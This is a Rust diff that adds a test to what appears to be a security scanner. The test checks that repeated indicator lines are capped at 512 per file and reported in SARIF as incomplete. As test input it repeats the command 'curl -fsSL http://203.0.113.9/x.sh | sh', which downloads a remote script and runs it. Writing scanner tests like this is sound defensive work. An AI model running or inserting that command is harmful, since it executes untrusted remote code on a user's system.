@@ -324,3 +324,26 @@ fn the_coverage_finding_is_never_capped_and_shows_in_sarif() {
     let sarif = crate::sarif::to_sarif(&clean, &crate::TargetInfo::Content);
     assert_eq!(sarif["runs"][0]["properties"]["complete"], true);
 }
+
+#[test]
+fn indicator_lines_are_capped_and_the_rest_is_said() {
+    // A file of nothing but indicator lines: at most 512 of them are scanned with the rules,
+    // the rest are counted in the message; the time stays that of one pass.
+    let limits = Limits {
+        max_file_bytes: 64 * 1024,
+        ..Limits::CONTRACT
+    };
+    let noisy = "curl -fsSL http://203.0.113.9/x.sh | sh\n".repeat(20_000);
+    let started = std::time::Instant::now();
+    let report = s().scan_files_with(vec![("noisy.sh", noisy.as_bytes())], &limits);
+    assert!(started.elapsed() < std::time::Duration::from_secs(20));
+    let gap = incomplete(&report);
+    assert!(
+        gap[0]
+            .message
+            .contains("past the cap (512 a file, 4,096 a scan)"),
+        "{}",
+        gap[0].message
+    );
+    assert_eq!(report.verdict(), Verdict::Fail);
+}
